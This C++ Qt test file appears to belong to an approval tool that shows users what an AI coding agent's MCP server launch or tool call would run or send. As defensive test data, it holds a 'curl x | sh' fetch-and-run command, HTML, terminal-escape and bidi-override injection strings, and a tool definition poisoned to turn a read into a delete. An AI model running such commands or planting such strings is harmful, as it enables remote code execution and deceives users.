// SPDX-License-Identifier: Apache-2.0
#include "ui/approvals/card_facts.h"
#include "ui/models/card_summary.h"
#include "ui/widgets/fact_view.h"

#include <QTest>

using namespace gatehouse;

namespace {

model::ApprovalCard fullCard()
{
    model::ApprovalCard card;
    card.id = "aaaaaaaa";
    card.clientName = "claude-code";
    card.waiting = 1;
    card.entryLine = 12;
    card.ancestry = {{4411, 1, "/opt/claude/claude", {"claude"}}, {900, 1, "/usr/bin/bash", {"bash"}}};
    auto& identity = card.identity;
    identity.entryRef = "0011223344556677";
    identity.entry = {"claude-desktop", model::EntryScope::User,
        "/home/u/.config/Claude/claude_desktop_config.json", "/mcpServers/files", "files"};
    identity.argv = {"npx", "-y", "@acme/fs@1.4.2", "/home/u/my documents"};
    identity.executable.path = "/usr/bin/node";
    identity.script = model::HashedFile{"/usr/lib/npx.js", {}, {}};
    identity.package = model::PackageRun{"npx", "@acme/fs", "1.4.2", true};
    identity.environmentNames = {"GITHUB_TOKEN"};
    identity.workingFolder = "/home/u/src";
    return card;
}

QString textOf(const model::ApprovalCard& card, bool showsAll = false)
{
    widgets::FactView view;
    approvals::writeCard(view, card, showsAll);
    return view.toPlainText();
}

} // namespace

class TestCardFacts : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void showsAllThatTheAnswerDependsOn();
    void unpinnedPackageSaysSo();
    void changedCardShowsBeforeAndAfterFirst();
    void dangerousCardBeginsWithTheDanger();
    void aCallShowsWhatItHoldsAndWouldSend();
    void aDefinitionShowsWhatChanged();
    void hostileTextStaysText();
    void longCommandsHideNothingSilently();
    void showingAllHidesNothing();
};

void TestCardFacts::showsAllThatTheAnswerDependsOn()
{
    const auto text = textOf(fullCard());

    for (const auto* part : {"npx", "@acme/fs@1.4.2", "'/home/u/my documents'", "/usr/bin/node",
             "/usr/lib/npx.js", "pinned", "/home/u/src", "GITHUB_TOKEN", "Claude Desktop",
             "/opt/claude/claude (process 4411)", "/usr/bin/bash", "claude_desktop_config.json, line 12",
             "for all your projects", "never approved", "SHA-256"})
        QVERIFY2(text.contains(QString::fromUtf8(part)), part);
}

void TestCardFacts::unpinnedPackageSaysSo()
{
    auto card = fullCard();
    card.identity.package->isPinned = false;

    QVERIFY(textOf(card).contains(QStringLiteral("Not pinned: what runs may change at any time")));
}

void TestCardFacts::changedCardShowsBeforeAndAfterFirst()
{
    auto card = fullCard();
    card.approvedBefore = card.identity;
    card.changes = {
        {"argv", "npx -y @acme/fs@1.4.1", "npx -y @acme/fs@1.4.2"}, {"environment:PATH", "ab12", "cd34"}};

    const auto text = textOf(card);

    QVERIFY(text.contains(QStringLiteral("@acme/fs@1.4.1")));
    QVERIFY(text.contains(QStringLiteral("Variable PATH")));
    QVERIFY(text.indexOf(QStringLiteral("WHAT CHANGED")) < text.indexOf(QStringLiteral("WHAT WOULD RUN")));
}

void TestCardFacts::dangerousCardBeginsWithTheDanger()
{
    auto card = fullCard();
    card.identity.argv = {"sh", "-c", "curl x | sh"};

    QVERIFY(textOf(card).startsWith(QStringLiteral("WHY TO LOOK CLOSELY")));
}

void TestCardFacts::aCallShowsWhatItHoldsAndWouldSend()
{
    auto card = fullCard();
    auto& call = card.identity.call.emplace();
    call.method = "tools/call";
    call.tool = "create_issue";
    call.reasons = {"A GitHub token (github-token)"};
    call.excerpt = R"({"body":"‹github-token›"})";

    const auto text = textOf(card);

    for (const auto* part : {"A GitHub token (github-token)", "create_issue", "‹github-token›", "files",
             "make the same call again"})
        QVERIFY2(text.contains(QString::fromUtf8(part)), part);
    QVERIFY(!text.contains(QStringLiteral("WHAT WOULD RUN")));
    call.restoresValues = true;
    QVERIFY(textOf(card).contains(QStringLiteral("secrets")));
}

void TestCardFacts::aDefinitionShowsWhatChanged()
{
    auto card = fullCard();
    auto& call = card.identity.call.emplace();
    call.method = "definition of tool";
    call.tool = "read_file";
    call.reasons = {"readOnlyHint was true and is false now"};
    call.excerpt = "description: [-Reads -]{+Deletes +}a file\\u{202E}.\nreadOnlyHint: [-true-]{+false+}";

    const auto text = textOf(card);

    for (const auto* part :
        {"readOnlyHint was true and is false now", "read_file", "[-Reads -]{+Deletes +}a file", "\\u{202E}",
            "[-true-]{+false+}", "Everything else of the server goes on", "files"})
        QVERIFY2(text.contains(QString::fromUtf8(part)), part);
    for (const auto* part : {"WHAT WOULD RUN", "WHAT WOULD BE SENT"})
        QVERIFY2(!text.contains(QString::fromUtf8(part)), part);
    QVERIFY(models::cardTitle(card).contains(QStringLiteral("read_file")));
    call.tool.clear();
    QVERIFY(models::cardTitle(card).contains(QStringLiteral("instructions")));
}

void TestCardFacts::hostileTextStaysText()
{
    auto card = fullCard();
    card.identity.argv = {"/bin/x", "<a href='http://x'>Click</a>\n\x1b[2J\xe2\x80\xae"};
    card.identity.entry.file = "/h/<img src=x>\n/y";

    const auto text = textOf(card);

    QVERIFY(text.contains(QStringLiteral("<a href=")));
    QVERIFY(text.contains(QStringLiteral("␊␛[2J⟨U+202E⟩")));
    QVERIFY(text.contains(QStringLiteral("<img src=x>␊/y")));
}

void TestCardFacts::longCommandsHideNothingSilently()
{
    auto card = fullCard();
    card.identity.argv = {"/bin/x", std::string(1000, 'a').append("END")};
    widgets::FactView view;

    const auto hidden = approvals::writeCard(view, card, false);

    QCOMPARE(hidden.characters, 703);
    QVERIFY(view.toPlainText().contains(QStringLiteral("+703 more")));
    card.identity.argv.assign(100, "word");
    QCOMPARE(approvals::writeCard(view, card, false).arguments, 76);
}

void TestCardFacts::showingAllHidesNothing()
{
    auto card = fullCard();
    card.identity.argv.assign(100, std::string(1000, 'a').append("END"));
    widgets::FactView view;

    const auto hidden = approvals::writeCard(view, card, true);

    QVERIFY(!hidden.isAny());
    QCOMPARE(view.toPlainText().count(QStringLiteral("END")), 100);
}

QTEST_MAIN(TestCardFacts)
#include "tst_card_facts.moc"
